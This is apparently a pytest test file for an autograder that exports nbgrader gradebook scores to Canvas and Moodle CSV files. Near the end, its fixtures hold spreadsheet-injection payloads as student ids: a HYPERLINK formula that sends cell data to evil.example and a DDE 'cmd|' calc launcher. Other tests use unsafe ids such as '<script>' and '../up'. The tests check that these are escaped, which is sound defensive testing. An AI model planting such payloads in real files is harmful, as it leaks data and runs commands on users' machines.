"""Grades into Canvas and Moodle: every score read back from the file is the gradebook's.

The gradebook is a real one, made with nbgrader's API on SQLite (no grading
run): two assignments, students with full, partial, late and missing
submissions, one with a Korean name.
"""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import sys
import warnings
from pathlib import Path

import pytest

from autograder.assignments import COURSE_ID, REPO_ROOT
from autograder.course import samples
from autograder.course.cli import main
from autograder.course.directory import Course, tool_environment
from autograder.course.export import (
    POINTS_POSSIBLE,
    CanvasExportPlugin,
    MoodleExportPlugin,
    RosterError,
    export_for,
)
from autograder.course.spreadsheet import from_cell

ASSIGNMENTS = {"01_first": {"c1": 5.0, "c2": 2.5}, "02_second": {"c1": 4.0}}
STUDENTS = {  # id: (last, first)
    "doe": ("Doe", "Jane"),
    "kim": ("김", "민준"),
    "nameless": (None, None),
    "absent": ("Absent", "Al"),
}
AUTO_SCORES = {  # (student, assignment): scores of its cells; missing: no submission
    ("doe", "01_first"): {"c1": 5.0, "c2": 2.5},
    ("doe", "02_second"): {"c1": 3.0},
    ("kim", "01_first"): {"c1": 2.0, "c2": 0.5},
    ("nameless", "02_second"): {"c1": 0.5},
}
LATE = {("doe", "02_second"): 1.0, ("nameless", "02_second"): 2.0}  # penalty beyond the score
ROSTER = [
    {
        "student_id": "doe",
        "canvas_id": "101",
        "sis_user_id": "S1",
        "sis_login_id": "jdoe",
        "section": "A",
        "email": "jane@example.edu",
        "idnumber": "2024001",
    },
    {"student_id": "kim", "canvas_id": "102", "section": "B", "email": "kim@example.edu"},
    {"student_id": "nameless", "sis_login_id": "nl", "email": "nl@example.edu"},
    {"student_id": "absent", "canvas_id": "104", "email": "al@example.edu", "idnumber": "2024004"},
]


@pytest.fixture(scope="module")
def built_gradebook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The gradebook, made once (nbgrader starts alembic for a new database)."""
    from nbgrader.api import Gradebook

    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
    with Gradebook(f"sqlite:///{path}", COURSE_ID) as gradebook:
        for assignment, cells in ASSIGNMENTS.items():
            gradebook.add_assignment(assignment)
            gradebook.add_notebook(assignment, assignment)
            for cell, points in cells.items():
                gradebook.add_grade_cell(
                    cell, assignment, assignment, max_score=points, cell_type="code"
                )
        for student, (last, first) in STUDENTS.items():
            gradebook.add_student(student, last_name=last, first_name=first)
        for (student, assignment), cells in AUTO_SCORES.items():
            with warnings.catch_warnings():  # SQLAlchemy on nbgrader's own add_submission
                warnings.simplefilter("ignore")
                gradebook.add_submission(assignment, student)
            for cell, score in cells.items():
                gradebook.find_grade(cell, assignment, assignment, student).auto_score = score
            notebook = gradebook.find_submission_notebook(assignment, assignment, student)
            notebook.late_submission_penalty = LATE.get((student, assignment))
        gradebook.db.commit()
    return path


@pytest.fixture
def course(built_gradebook: Path, tmp_path: Path) -> Course:
    """A course directory holding a copy of the gradebook and the roster."""
    shutil.copy(built_gradebook, tmp_path / "gradebook.db")
    shutil.copy(REPO_ROOT / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
    write_roster(tmp_path / "roster.csv", ROSTER)
    return Course(tmp_path)


def write_roster(path: Path, rows: list[dict[str, str]]) -> Path:
    fields = list(dict.fromkeys(k for row in rows for k in row))
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fields)
        writer.writeheader()
        writer.writerows(rows)
    return path


def gradebook_score(course: Course, student: str, assignment: str) -> float:
    """The score nbgrader's own CSV exporter gives: late penalty off, never below zero."""
    from nbgrader.api import MissingEntry

    with course.gradebook() as gradebook:
        try:
            submission = gradebook.find_submission(assignment, student)
        except MissingEntry:
            return 0.0
        return max(0.0, submission.score - submission.late_submission_penalty)


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_the_fixture_has_full_partial_late_and_missing_scores(course):
    expected = {
        ("doe", "01_first"): 7.5,
        ("doe", "02_second"): 2.0,  # 3 less a 1-point late penalty
        ("kim", "01_first"): 2.5,
        ("kim", "02_second"): 0.0,  # not submitted
        ("nameless", "02_second"): 0.0,  # 0.5 less a 2-point penalty, never below zero
        ("absent", "01_first"): 0.0,
    }
    for (student, assignment), score in expected.items():
        assert gradebook_score(course, student, assignment) == score


def test_canvas_file_holds_every_score_of_the_gradebook(course):
    path = export_for(course, "canvas")
    assert path == course.root / "grades_canvas.csv"
    header, points, *rows = read_rows(path)
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", *ASSIGNMENTS]
    assert points == [POINTS_POSSIBLE, "", "", "", "", "7.5", "4"]
    assert len(rows) == len(STUDENTS)
    roster = {r["student_id"]: r for r in ROSTER}
    by_key = {(r.get("canvas_id", ""), r.get("sis_login_id", "")): s for s, r in roster.items()}
    for row in rows:
        student = by_key[(row[1], row[3])]
        last, first = STUDENTS[student]
        assert row[0] == (f"{last}, {first}" if last else student)
        assert row[2] == roster[student].get("sis_user_id", "")
        assert row[4] == roster[student].get("section", "")
        for assignment, cell in zip(ASSIGNMENTS, row[5:], strict=True):
            assert float(cell) == gradebook_score(course, student, assignment), (student, cell)


@pytest.mark.parametrize("field", ["email", "idnumber"])
def test_moodle_file_is_keyed_by_the_chosen_user_field(course, field):
    roster = [{**r, "idnumber": r.get("idnumber") or f"id-{r['student_id']}"} for r in ROSTER]
    write_roster(course.root / "roster.csv", roster)
    path = export_for(course, "moodle", user_field=field)
    header, *rows = read_rows(path)
    assert header == [field, *ASSIGNMENTS]
    student_of = {r[field]: r["student_id"] for r in roster}
    assert sorted(student_of[row[0]] for row in rows) == sorted(STUDENTS)
    for row in rows:
        for assignment, cell in zip(ASSIGNMENTS, row[1:], strict=True):
            assert float(cell) == gradebook_score(course, student_of[row[0]], assignment)


@pytest.mark.parametrize("platform", ["canvas", "moodle"])
def test_a_student_missing_from_the_roster_is_an_error_naming_them(course, platform):
    write_roster(course.root / "roster.csv", ROSTER[1:3])
    with pytest.raises(RosterError, match="2 student") as error:
        export_for(course, platform)
    assert "absent" in str(error.value) and "doe" in str(error.value)
    assert not list(course.root.glob("grades_*.csv"))  # no partial file


def test_each_platform_needs_its_identifier(course):
    write_roster(course.root / "roster.csv", [{**r, "canvas_id": ""} for r in ROSTER])
    with pytest.raises(RosterError, match="kim") as error:  # kim has only a canvas_id
        export_for(course, "canvas")
    assert "doe" not in str(error.value)  # doe still has her SIS ids
    with pytest.raises(RosterError, match=r"idnumber.*kim, nameless"):
        export_for(course, "moodle", user_field="idnumber")
    with pytest.raises(RosterError, match="no roster"):
        export_for(course, "canvas", roster=course.root / "nowhere.csv")


NEVER_GRADED = {
    "student_id": "newcomer",
    "name": "New, Comer",
    "canvas_id": "105",
    "email": "n@x.edu",
}


@pytest.mark.parametrize("platform", ["canvas", "moodle"])
def test_a_roster_student_never_graded_is_exported_without_a_grade_and_named(course, platform):
    """Who is in the roster but not the gradebook (never submitted anything) still has a
    row, with the platform's mark for no grade, and a warning names them."""
    write_roster(course.root / "roster.csv", [*ROSTER, NEVER_GRADED])
    warned: list[str] = []
    rows = read_rows(export_for(course, platform, warn=warned.append))
    theirs = [r for r in rows if "105" in r or "n@x.edu" in r]
    assert len(theirs) == 1 and theirs[0][-len(ASSIGNMENTS) :] == [""] * len(ASSIGNMENTS)
    assert len(rows) == len(STUDENTS) + 1 + (2 if platform == "canvas" else 1)
    assert len(warned) == 1 and "newcomer" in warned[0]


def test_cnn_grader_export_prints_every_warning(course, capsys):
    write_roster(course.root / "roster.csv", [*ROSTER, NEVER_GRADED])
    assert main(["export", "--course", str(course.root), "--format", "moodle"]) == 0
    captured = capsys.readouterr()
    assert captured.out.strip() == str(course.root / "grades_moodle.csv")
    assert "cnn-grader export: warning:" in captured.err and "newcomer" in captured.err


@pytest.mark.parametrize("unsafe", ["<script>", "ana bell", "../up", "-dash", "x" * 65, "김"])
def test_a_roster_student_with_an_unsafe_id_is_set_aside_with_a_line(course, unsafe):
    write_roster(course.root / "roster.csv", [*ROSTER, {**NEVER_GRADED, "student_id": unsafe}])
    warned: list[str] = []
    rows = read_rows(export_for(course, "moodle", warn=warned.append))
    assert len(rows) == 1 + len(STUDENTS) and not any("n@x.edu" in row for row in rows)
    assert len(warned) == 1 and repr(unsafe) in warned[0] and "set aside" in warned[0]


def test_a_roster_with_canvas_own_headers_and_narrowed_exports(course):
    """A roster made from Canvas's gradebook export; only some assignments and students."""
    canvas = [
        {"student_id": "doe", "Student": "Doe, J.", "ID": "101", "Section": "A"},
        {"student_id": "kim", "Student": "Kim, Minjun", "ID": "102", "Section": "B"},
    ]
    write_roster(course.root / "roster.csv", canvas)
    plugin = CanvasExportPlugin(
        to=str(course.root / "out.csv"),
        roster=str(course.root / "roster.csv"),
        assignment=["02_second"],
        student=["doe", "kim"],
        assignment_ids={"02_second": "5555"},
    )
    with course.gradebook() as gradebook:
        plugin.export(gradebook)
    assert read_rows(course.root / "out.csv") == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "02_second (5555)"],
        [POINTS_POSSIBLE, "", "", "", "", "4"],
        ["Doe, J.", "101", "", "", "A", "2"],
        ["Kim, Minjun", "102", "", "", "B", "0"],
    ]
    moodle = MoodleExportPlugin(
        to=str(course.root / "m.csv"), roster=str(course.root / "roster.csv"), student=["doe"]
    )
    write_roster(course.root / "roster.csv", [{"student_id": "doe", "email": "j@x.edu"}])
    with course.gradebook() as gradebook:
        moodle.export(gradebook)
    assert read_rows(course.root / "m.csv") == [
        ["email", *ASSIGNMENTS],
        ["j@x.edu", "7.5", "2"],
    ]


def test_cnn_grader_export_writes_the_platform_file_or_says_who_is_missing(course, capsys):
    root = ["--course", str(course.root)]
    assert main(["export", *root, "--format", "moodle", "--user-field", "email"]) == 0
    assert capsys.readouterr().out.strip() == str(course.root / "grades_moodle.csv")
    to = course.root / "canvas.csv"
    assert main(["export", *root, "--format", "canvas", "--to", str(to)]) == 0
    assert len(read_rows(to)) == 2 + len(STUDENTS)
    write_roster(course.root / "roster.csv", ROSTER[:3])
    assert main(["export", *root, "--format", "canvas"]) == 1
    assert "absent" in capsys.readouterr().err


def test_plain_nbgrader_export_uses_the_plugin(course):
    """``nbgrader export --exporter=...`` gives the file ``cnn-grader export`` gives."""
    expected = read_rows(export_for(course, "canvas", to=course.root / "ours.csv"))
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "nbgrader"),
            "export",
            f"--db=sqlite:///{course.root / 'gradebook.db'}",
            f"--course={COURSE_ID}",
            "--exporter=autograder.course.export.CanvasExportPlugin",
            "--CanvasExportPlugin.roster=roster.csv",
        ],
        cwd=course.root,
        env=tool_environment(),
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert read_rows(course.root / "grades_canvas.csv") == expected


# Student ids and names a spreadsheet would run as formulas, were they written raw.
FORMULA_STUDENTS = {
    '=HYPERLINK("evil.example?"&A1,"grades")': ("=1+1", "@SUM(A1:A9)"),
    "+1+cmd|' -C calc'!A0": ("\tTab", "\rReturn"),
    "-2+3": ("'Quoted", "Plain"),
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_course(tmp_path: Path) -> Course:
    """A course whose gradebook names students with formulas, graded on one assignment."""
    from nbgrader.api import Gradebook

    shutil.copy(REPO_ROOT / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
    course = Course(tmp_path)
    with Gradebook(course.gradebook_url, COURSE_ID) as gradebook:
        gradebook.add_assignment("01_first")
        gradebook.add_notebook("01_first", "01_first")
        gradebook.add_grade_cell("c1", "01_first", "01_first", max_score=5.0, cell_type="code")
        for student, (last, first) in FORMULA_STUDENTS.items():
            gradebook.add_student(student, last_name=last, first_name=first)
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                gradebook.add_submission("01_first", student)
            gradebook.find_grade("c1", "01_first", "01_first", student).auto_score = 4.0
        gradebook.db.commit()
    roster = [
        {"student_id": s, "name": f"{first} {last}", "canvas_id": str(100 + i), "email": s}
        for i, (s, (last, first)) in enumerate(FORMULA_STUDENTS.items())
    ]
    write_roster(tmp_path / "roster.csv", roster)
    return course


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would read as the start of a formula."""
    return [
        cell
        for row in read_rows(path)
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ]


def test_every_export_shows_a_formula_as_text(formula_course, capsys):
    root = ["--course", str(formula_course.root)]
    assert main(["export", *root]) == 0
    assert main(["export", *root, "--format", "canvas"]) == 0
    assert main(["export", *root, "--format", "moodle"]) == 0
    names = {f"{first} {last}".strip() for last, first in FORMULA_STUDENTS.values()}
    for file, shown in [
        ("grades.csv", set(FORMULA_STUDENTS)),
        ("grades_canvas.csv", names),  # Canvas names a student by the roster's name and ids
        ("grades_moodle.csv", set(FORMULA_STUDENTS)),  # the roster's email, here the id
    ]:
        path = formula_course.root / file
        assert formula_cells(path) == [], file
        written = {from_cell(cell) for row in read_rows(path) for cell in row}
        assert shown <= written, file  # all there, and read back as they were


def test_grading_times_and_similarity_show_a_formula_as_text(formula_course):
    from autograder.course.grading import Outcome, read_times, record_times
    from autograder.course.similarity import write_similarity

    students = list(FORMULA_STUDENTS)
    path = record_times(formula_course, [Outcome("01_first", s, True, 1.0) for s in students])
    assert formula_cells(path) == []
    assert sorted(row["student"] for row in read_times(formula_course)) == sorted(students)

    course = Course.create(formula_course.root / "similar", ("03_one_hot",))
    release = Path("assignments") / "03_one_hot"
    shutil.copytree(REPO_ROOT / release, course.root / release)
    for student in [*students, "ana", "ben"]:
        course.submit(student, "03_one_hot", samples.submission("03_one_hot"))
    _, pairs = write_similarity(course, "03_one_hot")
    assert formula_cells(pairs) == []
    # A folder named like a formula is no student id (autograder/course/students.py): it
    # is set aside, never compared; ana and ben are the one pair.
    assert [row[1:3] for row in read_rows(pairs)[1:]] == [["ana", "ben"]]
